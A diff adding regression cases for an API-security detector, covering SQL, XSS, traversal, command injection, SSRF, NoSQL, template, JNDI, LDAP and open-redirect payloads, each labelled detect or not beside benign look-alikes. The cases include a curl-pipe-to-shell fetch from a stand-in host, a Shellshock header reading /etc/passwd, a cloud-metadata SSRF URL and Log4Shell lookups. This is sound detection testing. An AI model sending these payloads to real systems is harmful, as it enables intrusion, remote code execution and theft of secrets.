@@ -1,0 +1,87 @@
+"""Regression cases for the injection family (APISEC-INJ-001..010)."""
+
+from __future__ import annotations
+
+from urllib.parse import quote
+
+from otel_apisec.testing import make_exchange
+from tests.cases import Case
+
+BASE = "https://api.example.com/v1/items"
+
+
+def _q(name: str, value: str) -> str:
+    return f"{BASE}?{name}={quote(value, safe='')}"
+
+
+CASES: list[Case] = [
+    # APISEC-INJ-001 SQL injection
+    Case("APISEC-INJ-001", True, "tautology in a query parameter", make_exchange(_q("id", "1' OR '1'='1")),
+         "request.query.id"),
+    Case("APISEC-INJ-001", True, "time-based blind in a JSON value",
+         make_exchange(BASE, "POST", json={"sort": "name,(SELECT SLEEP(5))"}), "request.body.$.sort"),
+    Case("APISEC-INJ-001", True, "comment-split UNION SELECT double URL-encoded",
+         make_exchange(_q("q", "1%20UN/**/ION%20SEL/**/ECT%201,2,3--"))),
+    Case("APISEC-INJ-001", True, "comment truncation in a login form",
+         make_exchange(BASE, "POST", body="user=admin'--&pass=x", content_type="application/x-www-form-urlencoded")),
+    Case("APISEC-INJ-001", False, "surname with an apostrophe", make_exchange(_q("name", "O'Brien"))),
+    Case("APISEC-INJ-001", False, "prose using select, union and drop",
+         make_exchange(BASE, "POST", json={"review": "Please select the union option from the drop-down, or not."})),
+    # APISEC-INJ-002 XSS
+    Case("APISEC-INJ-002", True, "script tag in a query parameter", make_exchange(_q("q", "<script>alert(1)</script>")),
+         "request.query.q"),
+    Case("APISEC-INJ-002", True, "event handler on an svg, HTML-entity encoded",
+         make_exchange(BASE, "POST", json={"bio": "&lt;svg onload=alert(document.domain)&gt;"})),
+    Case("APISEC-INJ-002", True, "javascript: URL in a Referer header",
+         make_exchange(BASE, headers={"Referer": "javascript:alert(1)"}), "request.header.referer"),
+    Case("APISEC-INJ-002", False, "math with angle brackets and a heart", make_exchange(_q("comment", "a < b > c, love it <3"))),
+    Case("APISEC-INJ-002", False, "a real browser user agent",
+         make_exchange(BASE, headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"})),
+    # APISEC-INJ-003 path traversal / LFI
+    Case("APISEC-INJ-003", True, "dot-dot-slash climb", make_exchange(_q("file", "../../../etc/passwd")), "request.query.file"),
+    Case("APISEC-INJ-003", True, "double URL-encoded climb in JSON",
+         make_exchange(BASE, "POST", json={"path": "%252e%252e%252f%252e%252e%252fetc%252fshadow"})),
+    Case("APISEC-INJ-003", True, "php stream wrapper", make_exchange(_q("page", "php://filter/convert.base64-encode/resource=index.php"))),
+    Case("APISEC-INJ-003", False, "relative file name and ellipsis", make_exchange(_q("file", "reports/2024/summary...final.pdf"))),
+    # APISEC-INJ-004 command injection
+    Case("APISEC-INJ-004", True, "separator then id", make_exchange(_q("host", "127.0.0.1;id")), "request.query.host"),
+    Case("APISEC-INJ-004", True, "command substitution in JSON", make_exchange(BASE, "POST", json={"name": "$(curl http://x.example/s.sh|sh)"})),
+    Case("APISEC-INJ-004", True, "Shellshock in User-Agent",
+         make_exchange(BASE, headers={"User-Agent": "() { :;}; /bin/bash -c 'cat /etc/passwd'"})),
+    Case("APISEC-INJ-004", False, "ampersands and semicolons in prose",
+         make_exchange(_q("comment", "Tom & Jerry; cat lovers & dog people | all welcome"))),
+    # APISEC-INJ-005 SSRF
+    Case("APISEC-INJ-005", True, "cloud metadata URL", make_exchange(BASE, "POST", json={"webhook": "http://169.254.169.254/latest/meta-data/"}),
+         "request.body.$.webhook"),
+    Case("APISEC-INJ-005", True, "decimal-encoded loopback", make_exchange(_q("image", "http://2130706433/admin"))),
+    Case("APISEC-INJ-005", True, "IPv4-mapped IPv6 loopback", make_exchange(_q("feed", "http://[::ffff:127.0.0.1]:8080/"))),
+    Case("APISEC-INJ-005", True, "octal loopback with userinfo trick", make_exchange(_q("url", "http://example.com@0177.0.0.1/"))),
+    Case("APISEC-INJ-005", False, "public URL with a query string", make_exchange(_q("image", "https://cdn.example.net/a.png?w=100&h=10"))),
+    # APISEC-INJ-006 NoSQL
+    Case("APISEC-INJ-006", True, "operator object in a JSON login", make_exchange(BASE, "POST", json={"user": "admin", "password": {"$ne": None}})),
+    Case("APISEC-INJ-006", True, "bracket operator in a query key", make_exchange(f"{BASE}?user[$ne]=x"), "request.query.user[$ne]"),
+    Case("APISEC-INJ-006", True, "$where JavaScript", make_exchange(_q("q", "'; return this.password.match(/.*/)//"))),
+    Case("APISEC-INJ-006", False, "price with a dollar sign", make_exchange(BASE, "POST", json={"note": "costs $ne arly 5, or $10 in total"})),
+    # APISEC-INJ-007 SSTI
+    Case("APISEC-INJ-007", True, "Jinja arithmetic probe", make_exchange(_q("name", "{{7*7}}"))),
+    Case("APISEC-INJ-007", True, "dunder walk", make_exchange(BASE, "POST", json={"t": "{{ ''.__class__.__mro__[1].__subclasses__() }}"})),
+    Case("APISEC-INJ-007", True, "ERB expression", make_exchange(_q("msg", "<%= 7 * 7 %>"))),
+    Case("APISEC-INJ-007", False, "mustache placeholder", make_exchange(BASE, "POST", json={"template": "Hello {{name}}, welcome!"})),
+    # APISEC-INJ-008 JNDI
+    Case("APISEC-INJ-008", True, "plain Log4Shell in User-Agent",
+         make_exchange(BASE, headers={"User-Agent": "${jndi:ldap://x.example/a}"}), "request.header.user-agent"),
+    Case("APISEC-INJ-008", True, "nested lookup obfuscation",
+         make_exchange(_q("q", "${${lower:j}${::-n}d${upper:i}:${lower:l}dap://x.example/a}"))),
+    Case("APISEC-INJ-008", False, "shell-like variable reference", make_exchange(BASE, "POST", json={"path": "${HOME}/data"})),
+    # APISEC-INJ-009 LDAP
+    Case("APISEC-INJ-009", True, "filter break-out", make_exchange(_q("user", "*)(uid=*))(|(uid=*"))),
+    Case("APISEC-INJ-009", True, "objectclass wildcard", make_exchange(BASE, "POST", json={"cn": "admin)(|(objectclass=*)"})),
+    Case("APISEC-INJ-009", False, "parenthesised prose", make_exchange(_q("comment", "great (really) product (5 stars)"))),
+    # APISEC-INJ-010 open redirect
+    Case("APISEC-INJ-010", True, "scheme-relative next", make_exchange(_q("next", "//evil.example")), "request.query.next"),
+    Case("APISEC-INJ-010", True, "backslash trick", make_exchange(_q("return_to", "/\\evil.example"))),
+    Case("APISEC-INJ-010", True, "javascript URL in redirect", make_exchange(_q("redirect", "javascript:alert(1)"))),
+    Case("APISEC-INJ-010", False, "relative next path", make_exchange(_q("next", "/account/settings?tab=2"))),
+    Case("APISEC-INJ-010", False, "pagination link in a JSON body",
+         make_exchange(BASE, "POST", json={"next": "https://api.example.com/v1/items?page=2"})),
+]
